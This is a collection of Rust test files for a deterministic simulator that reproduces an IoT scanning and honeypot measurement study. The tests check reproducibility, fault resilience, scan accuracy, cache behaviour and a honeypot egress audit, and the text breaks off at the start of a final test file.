//! The chaos harness: the quick preset under the LOSSY and outage-bearing
//! (hostile) schedules must stay byte-reproducible across worker counts and
//! repeated runs, leak no per-connection state, keep its degradation
//! accounting self-consistent, and land its headline counts within the
//! DESIGN.md §11 tolerance bands of the fault-free run.

use ofh_core::{Study, StudyConfig, StudyReport};
use ofh_net::FaultSchedule;
use openforhire_suite as _;

fn run(faults: FaultSchedule, seed: u64, workers: usize) -> StudyReport {
    let mut cfg = StudyConfig::quick(seed);
    cfg.faults = faults;
    cfg.workers = workers;
    Study::new(cfg).run()
}

/// The shared acceptance checks: no leaks, self-consistent accounting, and
/// Tables 4/5/7 headline counts within `band` of the fault-free run.
fn assert_resilient(faulty: &StudyReport, clean: &StudyReport, band: f64) {
    let r = &faulty.resilience;
    assert_eq!(r.leaked_connections, 0, "leaked per-connection state");
    assert!(
        r.scan_retries_recovered <= r.scan_retries_issued,
        "recovered {} > issued {}",
        r.scan_retries_recovered,
        r.scan_retries_issued
    );
    assert!(
        r.scan_retries_recovered <= r.scan_first_attempt_losses,
        "recovered {} > losses {}",
        r.scan_retries_recovered,
        r.scan_first_attempt_losses
    );
    // first-attempt losses − retries recovered = net losses; underflow here
    // would mean the accounting identity broke.
    assert_eq!(
        r.scan_net_losses(),
        r.scan_first_attempt_losses - r.scan_retries_recovered
    );
    assert!(
        r.fingerprint_retries_recovered <= r.fingerprint_retries_issued,
        "fingerprint recovered {} > issued {}",
        r.fingerprint_retries_recovered,
        r.fingerprint_retries_issued
    );
    for (name, f, c) in [
        (
            "Table 4 zmap exposed",
            faulty.table4.total_zmap() as f64,
            clean.table4.total_zmap() as f64,
        ),
        (
            "Table 5 misconfigured",
            faulty.table5.total as f64,
            clean.table5.total as f64,
        ),
        (
            "Table 7 attack events",
            faulty.table7.total_events as f64,
            clean.table7.total_events as f64,
        ),
    ] {
        assert!(f > 0.0, "{name} collapsed to zero under faults");
        assert!(
            (f - c).abs() <= c * band,
            "{name}: {f} vs fault-free {c} exceeds the ±{:.0}% band",
            band * 100.0
        );
    }
}

#[test]
fn lossy_schedule_is_deterministic_and_bounded() {
    let clean = run(FaultSchedule::none(), 7, 1);
    let a = run(FaultSchedule::lossy(), 7, 1);
    let b = run(FaultSchedule::lossy(), 7, 8);
    let c = run(FaultSchedule::lossy(), 7, 1);
    let golden = a.render_full();
    assert_eq!(golden, b.render_full(), "workers 1 vs 8 diverged under LOSSY");
    assert_eq!(golden, c.render_full(), "repeated run diverged under LOSSY");
    assert!(
        a.resilience.scan_first_attempt_losses > 0,
        "LOSSY never exercised the retry path"
    );
    assert_resilient(&a, &clean, 0.10);
}

#[test]
fn outage_schedule_is_deterministic_and_bounded() {
    let clean = run(FaultSchedule::none(), 7, 1);
    let a = run(FaultSchedule::hostile(), 7, 1);
    let b = run(FaultSchedule::hostile(), 7, 8);
    assert_eq!(
        a.render_full(),
        b.render_full(),
        "workers 1 vs 8 diverged under the outage schedule"
    );
    // The blackout and churn phases actually fired…
    assert_eq!(a.resilience.outage_minutes, 360);
    assert!(a.resilience.churn_suppressed > 0, "churn phase never bit");
    assert!(a.resilience.tcp_rate_limited > 0, "rate-limit phase never bit");
    // …and the gap-aware Table 8 discounted the dead air.
    assert!(a.table8.effective_days < a.table8.span_days);
    assert_eq!(clean.table8.effective_days, clean.table8.span_days);
    assert_resilient(&a, &clean, 0.25);
}

#[test]
fn seeds_differ_but_each_is_reproducible() {
    let a = run(FaultSchedule::hostile(), 11, 2);
    let b = run(FaultSchedule::hostile(), 11, 4);
    assert_eq!(a.render_full(), b.render_full(), "seed 11 not worker-invariant");
    assert_eq!(a.resilience.leaked_connections, 0);
}
