//! QueryEngine instrumentation determinism.
//!
//! The engine's answer cache and counters are part of the regression
//! sentinel's deterministic section, so they must be pure functions of the
//! query sequence and the store bytes:
//!
//! - replaying one fixed query sequence on *disjoint* engines — one per
//!   thread, 1 thread vs 8 — yields identical hit/miss counters and
//!   identical snapshot bytes on every engine;
//! - the LRU eviction order is pinned (stamp-based, oldest-touch evicted);
//! - engine snapshots are byte-stable across the worker count that built
//!   the underlying store.

use std::sync::Arc;

use ofh_core::{Study, StudyConfig};
use ofh_store::{Query, QueryEngine, StoreReader};

fn store_bytes(seed: u64, workers: usize) -> Vec<u8> {
    let mut cfg = StudyConfig::quick(seed);
    cfg.workers = workers;
    Study::new(cfg).run().build_store()
}

fn engine_over(bytes: &[u8], capacity: usize) -> QueryEngine {
    let reader = StoreReader::from_bytes(bytes.to_vec()).expect("store parses");
    QueryEngine::with_capacity(Arc::new(reader), capacity)
}

/// A fixed mixed workload: cacheable queries (info, tables, ranges) with
/// repeats, plus uncacheable counts and host lookups.
fn query_sequence() -> Vec<Query> {
    let day = 86_400_000u64;
    let mut qs = Vec::new();
    for rep in 0..3u64 {
        qs.push(Query::Info);
        qs.push(Query::Table(4));
        qs.push(Query::Table(7));
        for w in 0..6 {
            qs.push(Query::EventsInRange {
                start_ms: w * day,
                end_ms: (w + 1 + rep) * day,
                honeypot: None,
            });
        }
        qs.push(Query::CountScan {
            source: Some("ZMap Scan".into()),
            protocol: None,
            misconfig: None,
            country: None,
        });
        qs.push(Query::CountEvents {
            honeypot: None,
            protocol: None,
            attack_type: None,
            class: None,
        });
        qs.push(Query::HostLookup {
            addr: "10.0.0.1".parse().unwrap(),
        });
    }
    qs
}

/// Replay the sequence; return the deterministic evidence: hit/miss
/// counters and the snapshot's deterministic bytes.
fn replay(engine: &QueryEngine) -> ((u64, u64), String) {
    for q in query_sequence() {
        engine.query(&q).expect("query executes");
    }
    let mut snap = engine.snapshot();
    snap.validate().expect("engine snapshot validates");
    snap.zero_wall_clock();
    (
        engine.cache_stats(),
        serde_json::to_string(&snap).expect("snapshot serializes"),
    )
}

#[test]
fn disjoint_engines_agree_at_any_thread_count() {
    let bytes = store_bytes(7, 1);
    let reference = replay(&engine_over(&bytes, 16));
    assert!(
        reference.0 .0 > 0 && reference.0 .1 > 0,
        "workload must exercise both hits and misses, got {:?}",
        reference.0
    );

    // 8 threads, each with its own engine over the same bytes, replaying
    // the same sequence: every one reproduces the single-threaded counters
    // and snapshot bytes exactly.
    std::thread::scope(|s| {
        let handles: Vec<_> = (0..8)
            .map(|_| s.spawn(|| replay(&engine_over(&bytes, 16))))
            .collect();
        for h in handles {
            assert_eq!(h.join().expect("thread"), reference);
        }
    });
}

#[test]
fn engine_snapshot_is_byte_stable_across_store_worker_counts() {
    let a = store_bytes(7, 1);
    let b = store_bytes(7, 4);
    assert_eq!(a, b, "store bytes must not depend on worker count");
    let snap_a = replay(&engine_over(&a, 16));
    let snap_b = replay(&engine_over(&b, 16));
    assert_eq!(snap_a, snap_b);
    // The sentinel's counters are present under their documented keys.
    let snap = serde_json::from_str::<ofh_core::obs::MetricsSnapshot>(&snap_a.1).unwrap();
    for key in [
        "store.query.cache_hits",
        "store.query.cache_misses",
        "store.query.executed{range}",
        "store.query.executed{table}",
        "store.query.rows_pruned{range}",
        "store.query.rows_pruned{host}",
    ] {
        assert!(snap.counters.contains_key(key), "missing counter {key}");
    }
    assert_eq!(snap.preset, "quick", "identity comes from the store meta");
    assert!(snap.per_shard_events.is_empty());
}

#[test]
fn lru_eviction_order_is_pinned() {
    let bytes = store_bytes(7, 1);
    let engine = engine_over(&bytes, 2);
    let range = |w: u64| Query::EventsInRange {
        start_ms: w,
        end_ms: w + 86_400_000,
        honeypot: None,
    };
    let (a, b, c) = (range(0), range(1), range(2));
    // Stamp-LRU with capacity 2, walked by hand:
    //   A miss {A}            B miss {A B}        A hit (A freshened)
    //   C miss, evicts B {A C}
    //   B miss, evicts A {C B}
    //   C hit (C freshened)
    //   A miss, evicts B {C A}
    //   B miss, evicts C {A B}
    let expect = [
        (&a, (0, 1)),
        (&b, (0, 2)),
        (&a, (1, 2)),
        (&c, (1, 3)),
        (&b, (1, 4)),
        (&c, (2, 4)),
        (&a, (2, 5)),
        (&b, (2, 6)),
    ];
    for (i, (q, stats)) in expect.iter().enumerate() {
        engine.query(q).expect("query executes");
        assert_eq!(
            engine.cache_stats(),
            *stats,
            "hit/miss counters diverged at step {i}"
        );
    }
}
