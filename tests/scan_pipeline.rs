//! Integration: the scan → classify → fingerprint-filter pipeline in
//! isolation, with ground-truth cross-checks the full study can't do
//! (it never reads generation truth; this test deliberately does, to verify
//! the measurement recovers it).

use std::net::Ipv4Addr;

use ofh_core::devices::population::{paper_exposed, PopulationBuilder, PopulationSpec};
use ofh_core::devices::{Misconfig, Universe};
use ofh_core::net::{SimNet, SimNetConfig};
use ofh_core::scan::{scan_start, Scanner, ScannerConfig};
use ofh_core::wire::Protocol;
use openforhire_suite as _;

fn run_scan(seed: u64, scale: u64) -> (ofh_core::devices::population::Population, ofh_core::scan::ScanResults) {
    let universe = Universe::new(Ipv4Addr::new(16, 0, 0, 0), 16);
    let population = PopulationBuilder::new(PopulationSpec { universe, scale, seed }).build();
    let mut net = SimNet::new(SimNetConfig { seed, ..SimNetConfig::default() });
    population.attach_all(&mut net);
    let cfgs: Vec<ScannerConfig> = Protocol::SCANNED
        .iter()
        .map(|&p| {
            ScannerConfig::full(p, universe.cidr().first(), universe.size(), scan_start(p), seed)
        })
        .collect();
    let end = cfgs.iter().map(Scanner::estimated_end).max().unwrap();
    let id = net.attach(universe.scanner_addr(), Box::new(Scanner::new("ZMap Scan", cfgs)));
    net.run_until(end);
    let results = net.agent_downcast_mut::<Scanner>(id).unwrap().results.clone();
    (population, results)
}

#[test]
fn scan_recovers_every_device_and_classification() {
    let (population, results) = run_scan(3, 16_384);
    // Completeness: a lossless network + full sweep finds every device.
    for proto in Protocol::SCANNED {
        let truth = population.records.iter().filter(|r| r.protocol == proto).count();
        let found = results.exposed_hosts(proto);
        assert_eq!(found, truth, "{proto}: found {found} of {truth}");
    }
    // Correctness: measured misconfiguration equals generated ground truth,
    // device by device.
    for record in &population.records {
        let scanned = results
            .records
            .get(&(record.addr, record.port))
            .unwrap_or_else(|| panic!("{} ({:?}) not scanned", record.addr, record.protocol));
        assert_eq!(
            scanned.misconfig(),
            record.misconfig,
            "{} {:?}: classifier said {:?}, truth {:?} (banner {:?})",
            record.addr,
            record.protocol,
            scanned.misconfig(),
            record.misconfig,
            scanned.response
        );
    }
}

#[test]
fn device_typing_recovers_profiles() {
    let (population, results) = run_scan(5, 16_384);
    let mut typed = 0usize;
    let mut total_with_profile = 0usize;
    for record in &population.records {
        let Some(profile) = record.profile else { continue };
        // XMPP/AMQP responses never carry a device identity (§4.1.2) and
        // properly-configured UPnP/MQTT devices don't disclose theirs.
        if matches!(record.protocol, Protocol::Xmpp | Protocol::Amqp) {
            continue;
        }
        let discloses = match record.protocol {
            Protocol::Upnp => record.misconfig.is_some(),
            Protocol::Mqtt | Protocol::Coap => record.misconfig.is_some(),
            _ => true,
        };
        if !discloses {
            continue;
        }
        total_with_profile += 1;
        let scanned = results.records.get(&(record.addr, record.port)).unwrap();
        if let Some(found) = scanned.device() {
            assert_eq!(found.name, profile.name, "{}", record.addr);
            typed += 1;
        }
    }
    assert!(
        typed as f64 / total_with_profile as f64 > 0.95,
        "typed {typed}/{total_with_profile}"
    );
}

#[test]
fn scaled_counts_track_paper_marginals() {
    let scale = 16_384;
    let (_, results) = run_scan(9, scale);
    for proto in Protocol::SCANNED {
        let expect = (paper_exposed(proto) + scale / 2) / scale;
        let got = results.exposed_hosts(proto) as u64;
        assert!(
            got.abs_diff(expect.max(1)) <= expect / 10 + 2,
            "{proto}: got {got}, expected ≈{expect}"
        );
    }
    // Misconfigured classes survive scaling.
    for class in Misconfig::ALL {
        assert!(
            !results.misconfigured_addrs(class).is_empty(),
            "{class:?} vanished at scale {scale}"
        );
    }
}
