//! Reproducibility: the entire study is a pure function of its seed.

use ofh_core::{Study, StudyConfig};
use openforhire_suite as _;

#[test]
fn same_seed_same_report() {
    let a = Study::new(StudyConfig::quick(123)).run();
    let b = Study::new(StudyConfig::quick(123)).run();
    assert_eq!(a.render_full(), b.render_full());
    assert_eq!(a.counters, b.counters);
    assert_eq!(a.telescope.total_records(), b.telescope.total_records());
}

#[test]
fn different_seed_different_trace() {
    let a = Study::new(StudyConfig::quick(1)).run();
    let b = Study::new(StudyConfig::quick(2)).run();
    // Structure holds, but the concrete traces differ.
    assert_ne!(a.render_full(), b.render_full());
    // Scaled marginals stay identical (they are inputs, not noise).
    assert_eq!(a.table5.total, b.table5.total);
    assert_eq!(a.population_size, b.population_size);
}
