//! Appendix A.3 — honeypot sandboxing audit.
//!
//! "Our setting focused only on collecting attacks from the Internet and in
//! principle did not allow for honeypots to attack back a system or entity…
//! all containers had egress rules to limit any traffic attempting to leave
//! the network." The simulator accounts every agent's egress; this test
//! proves the deployed honeypots *never initiate* traffic across a full
//! attack month — they only answer.

use std::net::Ipv4Addr;

use ofh_core::attack::plan::{AttackPlan, HoneypotSet, PlanConfig};
use ofh_core::attack::AttackerAgent;
use ofh_core::devices::population::{PopulationBuilder, PopulationSpec};
use ofh_core::devices::Universe;
use ofh_core::honeypots::{
    ConpotHoneypot, CowrieHoneypot, DionaeaHoneypot, HosTaGeHoneypot, ThingPotHoneypot,
    UPotHoneypot,
};
use ofh_core::net::{SimDuration, SimNet, SimNetConfig, SimTime};
use openforhire_suite as _;

#[test]
fn honeypots_never_attack_back() {
    let seed = 31;
    let universe = Universe::new(Ipv4Addr::new(16, 0, 0, 0), 16);
    let population = PopulationBuilder::new(PopulationSpec {
        universe,
        scale: 16_384,
        seed,
    })
    .build();
    let honeypots = HoneypotSet::in_lab(&universe);
    let month_start = SimTime::from_date(ofh_core::net::SimDate::new(2021, 4, 1));
    let plan = AttackPlan::build(
        &PlanConfig {
            seed,
            hp_scale: 256,
            infected_scale: 1_024,
            universe,
            month_start,
            month_days: 30,
            honeypots,
        },
        &population,
    );

    let mut net = SimNet::new(SimNetConfig { seed, ..SimNetConfig::default() });
    let honeypot_ids = [
        ("HosTaGe", net.attach(honeypots.hostage, Box::new(HosTaGeHoneypot::new()))),
        ("U-Pot", net.attach(honeypots.upot, Box::new(UPotHoneypot::new()))),
        ("Conpot", net.attach(honeypots.conpot, Box::new(ConpotHoneypot::new()))),
        ("ThingPot", net.attach(honeypots.thingpot, Box::new(ThingPotHoneypot::new()))),
        ("Cowrie", net.attach(honeypots.cowrie, Box::new(CowrieHoneypot::new()))),
        ("Dionaea", net.attach(honeypots.dionaea, Box::new(DionaeaHoneypot::new()))),
    ];
    let mut attacker_ids = Vec::new();
    for actor in &plan.actors {
        attacker_ids.push(net.attach(actor.addr, Box::new(AttackerAgent::new(actor.tasks.clone()))));
    }
    net.run_until(month_start + SimDuration::from_days(31));

    // The honeypots received traffic…
    let total_events: usize = {
        let mut n = 0;
        n += net.agent_downcast::<HosTaGeHoneypot>(honeypot_ids[0].1).unwrap().log.len();
        n += net.agent_downcast::<UPotHoneypot>(honeypot_ids[1].1).unwrap().log.len();
        n += net.agent_downcast::<CowrieHoneypot>(honeypot_ids[4].1).unwrap().log.len();
        n
    };
    assert!(total_events > 0, "the month must produce traffic");

    // …but never initiated any. UDP *replies* are fine (discovery answers);
    // unsolicited sends and TCP connects are not.
    for (name, id) in honeypot_ids {
        let egress = net.egress_of(id);
        assert_eq!(egress.tcp_initiated, 0, "{name} initiated TCP connections");
        assert_eq!(egress.udp_unsolicited, 0, "{name} sent unsolicited UDP");
    }

    // Sanity check of the audit itself: attackers *do* register egress.
    let attacked: u64 = attacker_ids
        .iter()
        .map(|&id| {
            let e = net.egress_of(id);
            e.tcp_initiated + e.udp_unsolicited
        })
        .sum();
    assert!(attacked > 0, "attackers must register egress");
}
