//! Integration: the honeypot-month experiment in isolation — attackers
//! against honeypots, with behaviour-level assertions the full-study shape
//! tests don't cover.

use std::net::Ipv4Addr;

use ofh_core::analysis::events::{AttackDataset, SourceClass};
use ofh_core::analysis::table13::Table13;
use ofh_core::attack::plan::{ActorCategory, AttackPlan, HoneypotSet, PlanConfig};
use ofh_core::attack::AttackerAgent;
use ofh_core::devices::population::{PopulationBuilder, PopulationSpec};
use ofh_core::devices::Universe;
use ofh_core::honeypots::{
    ConpotHoneypot, CowrieHoneypot, DionaeaHoneypot, EventKind, HosTaGeHoneypot,
    ThingPotHoneypot, UPotHoneypot,
};
use ofh_core::net::{SimDuration, SimNet, SimNetConfig, SimTime};
use ofh_core::oracles::Oracles;
use ofh_core::wire::Protocol;
use openforhire_suite as _;

struct MonthRun {
    dataset: AttackDataset,
    oracles: Oracles,
    plan_actors: Vec<(Ipv4Addr, ActorCategory)>,
}

fn run_month(seed: u64) -> MonthRun {
    let universe = Universe::new(Ipv4Addr::new(16, 0, 0, 0), 16);
    let population = PopulationBuilder::new(PopulationSpec {
        universe,
        scale: 16_384,
        seed,
    })
    .build();
    let honeypots = HoneypotSet::in_lab(&universe);
    let month_start = SimTime::from_date(ofh_core::net::SimDate::new(2021, 4, 1));
    let plan = AttackPlan::build(
        &PlanConfig {
            seed,
            hp_scale: 128,
            infected_scale: 512,
            universe,
            month_start,
            month_days: 30,
            honeypots,
        },
        &population,
    );
    let oracles = Oracles::populate(seed, &plan, &population);

    let mut net = SimNet::new(SimNetConfig { seed, ..SimNetConfig::default() });
    let ids = [
        net.attach(honeypots.hostage, Box::new(HosTaGeHoneypot::new())),
        net.attach(honeypots.upot, Box::new(UPotHoneypot::new())),
        net.attach(honeypots.conpot, Box::new(ConpotHoneypot::new())),
        net.attach(honeypots.thingpot, Box::new(ThingPotHoneypot::new())),
        net.attach(honeypots.cowrie, Box::new(CowrieHoneypot::new())),
        net.attach(honeypots.dionaea, Box::new(DionaeaHoneypot::new())),
    ];
    for actor in &plan.actors {
        net.attach(actor.addr, Box::new(AttackerAgent::new(actor.tasks.clone())));
    }
    net.run_until(month_start + SimDuration::from_days(31));

    let logs = vec![
        std::mem::take(&mut net.agent_downcast_mut::<HosTaGeHoneypot>(ids[0]).unwrap().log).events,
        std::mem::take(&mut net.agent_downcast_mut::<UPotHoneypot>(ids[1]).unwrap().log).events,
        std::mem::take(&mut net.agent_downcast_mut::<ConpotHoneypot>(ids[2]).unwrap().log).events,
        std::mem::take(&mut net.agent_downcast_mut::<ThingPotHoneypot>(ids[3]).unwrap().log).events,
        std::mem::take(&mut net.agent_downcast_mut::<CowrieHoneypot>(ids[4]).unwrap().log).events,
        std::mem::take(&mut net.agent_downcast_mut::<DionaeaHoneypot>(ids[5]).unwrap().log).events,
    ];
    MonthRun {
        dataset: AttackDataset::merge(logs),
        oracles,
        plan_actors: plan.actors.iter().map(|a| (a.addr, a.category.clone())).collect(),
    }
}

#[test]
fn source_classification_recovers_actor_categories() {
    let run = run_month(21);
    let ds = &run.dataset;
    let sources = ds.sources();
    let mut service_hits = 0;
    let mut service_total = 0;
    for (addr, category) in &run.plan_actors {
        if !sources.contains(addr) {
            continue;
        }
        let class = ds.classify_source(&run.oracles.rdns, "HosTaGe", *addr);
        match category {
            ActorCategory::ScanningService(_) => {
                service_total += 1;
                if class == SourceClass::ScanningService {
                    service_hits += 1;
                }
            }
            // Malicious actors that touched HosTaGe must never be classified
            // as scanning services.
            ActorCategory::Malicious | ActorCategory::Multistage => {
                assert_ne!(class, SourceClass::ScanningService, "{addr}");
            }
            _ => {}
        }
    }
    assert!(service_total > 0);
    assert_eq!(service_hits, service_total, "every service recognized via rDNS");
}

#[test]
fn captured_binaries_hash_to_known_families() {
    let run = run_month(22);
    let t13 = Table13::compute(&run.dataset, &run.oracles.malware);
    assert!(t13.distinct_samples() > 0);
    // Every non-empty captured payload must resolve to a known family —
    // droppers only ship registry-synthesized binaries.
    assert!(
        t13.rows.iter().all(|r| r.family != "unknown binary"),
        "unexpected unknown binaries: {:?}",
        t13.rows.iter().filter(|r| r.family == "unknown binary").count()
    );
    // And their hashes are VT-flagged (registry samples are catalogued).
    for row in &t13.rows {
        assert!(
            run.oracles.virustotal.hash_is_malicious(&row.sha256_hex),
            "{} not in VT",
            row.sha256_hex
        );
    }
}

#[test]
fn honeypots_log_credentials_and_exploits() {
    let run = run_month(23);
    let events = &run.dataset.events;
    // Brute-force credentials captured on both Telnet and SSH.
    for proto in [Protocol::Telnet, Protocol::Ssh] {
        assert!(
            events.iter().any(|e| e.protocol == proto
                && matches!(e.kind, EventKind::LoginAttempt { .. })),
            "{proto}: no credentials logged"
        );
    }
    // SMB exploit signatures and S7 job floods observed.
    assert!(events.iter().any(
        |e| matches!(&e.kind, EventKind::ExploitSignature { name } if name.contains("Trans2"))
    ));
    assert!(events.iter().any(
        |e| matches!(&e.kind, EventKind::ExploitSignature { name } if name.contains("PDU-type-1"))
    ));
    // MQTT/AMQP poisoning writes observed.
    assert!(events
        .iter()
        .any(|e| e.protocol == Protocol::Amqp && matches!(e.kind, EventKind::DataWrite { .. })));
    // Tor relays scraped HTTP and are known to ExoneraTor.
    let tor_srcs: Vec<Ipv4Addr> = run
        .plan_actors
        .iter()
        .filter(|(_, c)| matches!(c, ActorCategory::TorRelay))
        .map(|&(a, _)| a)
        .collect();
    assert!(!tor_srcs.is_empty());
    for addr in &tor_srcs {
        assert!(run.oracles.exonerator.was_relay(*addr));
    }
    assert!(events
        .iter()
        .any(|e| tor_srcs.contains(&e.src) && matches!(e.kind, EventKind::HttpRequest { .. })));
}
