//! Golden-file determinism: the quick preset at seed 7 renders a
//! byte-identical report, forever.
//!
//! [`determinism.rs`](determinism.rs) proves runs agree with *each other*;
//! this test pins the output against a checked-in snapshot so an
//! optimization that changes event order (and therefore the trace) cannot
//! slip through by perturbing both runs the same way. Regenerate with
//! `cargo run --release --example quickstart > tests/golden/quickstart_seed7.txt`
//! — but only after deciding the behavior change is intentional.

use ofh_core::{Study, StudyConfig};
use openforhire_suite as _;

#[test]
fn quick_preset_seed7_matches_golden_file() {
    let report = Study::new(StudyConfig::quick(7)).run();
    // The golden file is the quickstart's stdout: render_full + println's \n.
    let rendered = format!("{}\n", report.render_full());
    let golden = include_str!("golden/quickstart_seed7.txt");
    if rendered != golden {
        let diverges = rendered
            .lines()
            .zip(golden.lines())
            .position(|(a, b)| a != b)
            .map(|i| format!("first divergent line: {}", i + 1))
            .unwrap_or_else(|| "one report is a prefix of the other".into());
        panic!(
            "rendered report diverges from tests/golden/quickstart_seed7.txt \
             ({diverges}; rendered {} bytes, golden {} bytes)",
            rendered.len(),
            golden.len()
        );
    }
}
