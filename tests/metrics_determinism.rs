//! The observability layer's determinism contract (`ofh_obs`):
//!
//! 1. Enabling metrics must not perturb the simulation — the report with
//!    observability off is byte-identical to the report with it on.
//! 2. Outside the volatile `host` section, `metrics.json` is a pure
//!    function of `(seed, config)`: byte-identical across worker counts
//!    and across repeated runs at the same seed. The trace is fully
//!    deterministic (spans are keyed on sim-time, never the wall clock).
//!
//! Wall-clock fields (the `host` section: profile tree, payload-pool
//! statistics, worker count) are zeroed via
//! [`MetricsSnapshot::zero_wall_clock`] before comparison.

use ofh_core::obs::ObsConfig;
use ofh_core::{Study, StudyConfig, StudyReport};

fn run_quick(seed: u64, workers: usize, obs: ObsConfig) -> StudyReport {
    let mut cfg = StudyConfig::quick(seed);
    cfg.workers = workers;
    cfg.obs = obs;
    Study::new(cfg).run()
}

/// Serialize a report's snapshot with the host section blanked.
fn deterministic_metrics_json(report: &StudyReport) -> String {
    let mut snap = report.metrics.clone();
    snap.zero_wall_clock();
    serde_json::to_string_pretty(&snap).expect("snapshot serializes")
}

/// `metrics.json` (wall-clock fields zeroed) is byte-identical across
/// `--workers 1` and `--workers 8`, and the trace interleaves into the same
/// canonical JSONL stream.
#[test]
fn metrics_identical_across_worker_counts() {
    let a = run_quick(23, 1, ObsConfig::default());
    let b = run_quick(23, 8, ObsConfig::default());
    assert_eq!(
        deterministic_metrics_json(&a),
        deterministic_metrics_json(&b),
        "metrics.json differs between workers=1 and workers=8"
    );
    assert_eq!(
        a.trace.to_jsonl("quick", 16),
        b.trace.to_jsonl("quick", 16),
        "trace differs between workers=1 and workers=8"
    );
    // The host section, by contrast, must record what actually ran.
    assert_eq!(a.metrics.host.workers, 1);
    assert_eq!(b.metrics.host.workers, 8);
}

/// Two runs at the same seed produce byte-identical deterministic sections.
#[test]
fn metrics_identical_across_repeated_runs() {
    let a = run_quick(31, 2, ObsConfig::default());
    let b = run_quick(31, 2, ObsConfig::default());
    assert_eq!(deterministic_metrics_json(&a), deterministic_metrics_json(&b));
    assert_eq!(a.trace.to_jsonl("quick", 16), b.trace.to_jsonl("quick", 16));
}

/// Different seeds must *not* collide (guards against the snapshot being
/// trivially empty).
#[test]
fn metrics_vary_with_seed_and_are_populated() {
    let a = run_quick(23, 1, ObsConfig::default());
    let b = run_quick(24, 1, ObsConfig::default());
    assert_ne!(deterministic_metrics_json(&a), deterministic_metrics_json(&b));
    // The snapshot actually carries the pipeline's instruments.
    let counter_names: Vec<&str> = a.metrics.counters.keys().map(String::as_str).collect();
    for prefix in [
        "scan.probe.sent",
        "scan.response.recorded",
        "honeypot.event",
        "telescope.flow",
        "fingerprint.ac.banners_scanned",
        "attack.task.launched",
        "net.events_processed",
        "net.syns_sent",
    ] {
        assert!(
            counter_names.iter().any(|n| n.starts_with(prefix)),
            "no counter starting with {prefix:?} in {counter_names:?}"
        );
    }
    assert!(!a.metrics.histograms.is_empty(), "no histograms recorded");
    assert!(!a.trace.is_empty(), "no trace spans recorded");
    a.metrics.validate().expect("snapshot validates");
}

/// Observability is an execution knob: turning it off must not change the
/// report (no RNG stream or golden output may depend on it).
#[test]
fn disabling_observability_does_not_perturb_the_report() {
    let on = run_quick(23, 2, ObsConfig::default());
    let off = run_quick(23, 2, ObsConfig::disabled());
    assert_eq!(on.render_full(), off.render_full());
    // With observability off, nothing shard-side is recorded; only the
    // fabric counters folded at merge time remain.
    assert!(off.trace.is_empty());
    assert_eq!(off.metrics.counters["net.events_processed"], on.metrics.counters["net.events_processed"]);
    assert!(!off.metrics.counters.contains_key("telescope.flow{tcp}"));
}

/// Shrinking the trace ring keeps the *newest* spans and reports the
/// eviction count — and never affects metrics.
#[test]
fn bounded_trace_ring_drops_oldest_deterministically() {
    let big = run_quick(23, 1, ObsConfig { trace_capacity: 4096, ..ObsConfig::default() });
    let tiny = run_quick(23, 1, ObsConfig { trace_capacity: 8, ..ObsConfig::default() });
    assert_eq!(
        deterministic_metrics_json(&big),
        deterministic_metrics_json(&tiny),
        "ring capacity must not affect metrics"
    );
    assert_eq!(big.trace.total_emitted, tiny.trace.total_emitted);
    assert!(tiny.trace.total_dropped > big.trace.total_dropped);
    assert!(tiny.trace.len() <= 8 * big.metrics.shards as usize);
    // The retained spans are the tail of the full stream, per shard.
    let last_big = big.trace.spans.last().expect("spans");
    let last_tiny = tiny.trace.spans.last().expect("spans");
    assert_eq!(last_big.1.start_ms, last_tiny.1.start_ms);
}
