//! The elastic-sharding contract, from both sides:
//!
//! * **Shard count is a semantic knob** — each power-of-two count is a
//!   different (equally valid) deterministic trace, so nothing here compares
//!   reports *across* counts byte-for-byte;
//! * **Worker count is a pure execution knob** — at any *fixed* count the
//!   rendered report must be byte-identical for every worker count and for
//!   every rerun, no matter how the work-stealing scheduler shuffles shards
//!   between threads.
//!
//! The quick profile runs at counts well past the old fixed 16 (64 here;
//! the partition itself is property-tested to 4096 in
//! `crates/net/tests/shard_props.rs`) so the steal paths — contiguous-block
//! seeding, chunked steals from stragglers, more workers than shards — all
//! execute against a real study.

use ofh_core::{Study, StudyConfig};
use proptest::prelude::*;

fn run_quick(seed: u64, shards: u32, workers: usize) -> String {
    let mut cfg = StudyConfig::quick(seed);
    cfg.shards = shards;
    cfg.workers = workers;
    Study::new(cfg).run().render_full()
}

/// First divergent line on failure, so a determinism regression points at
/// the table that drifted instead of two walls of text.
fn assert_identical(label: &str, golden: &str, other: &str) {
    for (i, (lg, lo)) in golden.lines().zip(other.lines()).enumerate() {
        assert_eq!(lg, lo, "{label}: first divergent line is {}", i + 1);
    }
    assert_eq!(golden, other, "{label}: reports differ in length");
}

/// Shards=64 (four shards per worker at 16 workers, steals at 32): the full
/// rendered report is byte-identical across worker counts {1, 4, 32}, and a
/// repeated run at 32 workers — a fresh, differently-interleaved
/// work-stealing schedule — reproduces the same bytes.
#[test]
fn shards_64_report_identical_across_workers_and_reruns() {
    let golden = run_quick(7, 64, 1);
    for workers in [4usize, 32] {
        assert_identical(
            &format!("shards=64 workers={workers}"),
            &golden,
            &run_quick(7, 64, workers),
        );
    }
    assert_identical(
        "shards=64 workers=32 rerun",
        &golden,
        &run_quick(7, 64, 32),
    );
}

/// The degenerate single-shard partition still honors the contract: extra
/// workers have nothing to do (and nothing to break).
#[test]
fn single_shard_is_worker_invariant() {
    let golden = run_quick(5, 1, 1);
    assert_identical("shards=1 workers=8", &golden, &run_quick(5, 1, 8));
}

proptest! {
    // Each case renders the quick study four times; two cases keep the
    // debug-build suite inside the tier-1 budget while still varying the
    // seed (ci.sh reruns the suite in release with the full harness).
    #![proptest_config(ProptestConfig::with_cases(2))]

    /// For arbitrary seeds: merged reports at shards=64 are byte-identical
    /// across workers {1, 4, 32} and across repeated work-stealing runs.
    /// Eight quick studies per invocation — debug builds skip it and ci.sh
    /// runs it in release with `--include-ignored`.
    #[test]
    #[cfg_attr(debug_assertions, ignore = "slow in debug; run with --release")]
    fn steal_schedule_never_leaks_into_the_report(seed in 1u64..1_000_000) {
        let golden = run_quick(seed, 64, 1);
        prop_assert_eq!(&golden, &run_quick(seed, 64, 4), "workers=4, seed {}", seed);
        let w32_first = run_quick(seed, 64, 32);
        prop_assert_eq!(&golden, &w32_first, "workers=32, seed {}", seed);
        let w32_again = run_quick(seed, 64, 32);
        prop_assert_eq!(&golden, &w32_again, "workers=32 rerun, seed {}", seed);
    }
}
