//! End-to-end integration: run the full study once (quick preset) and
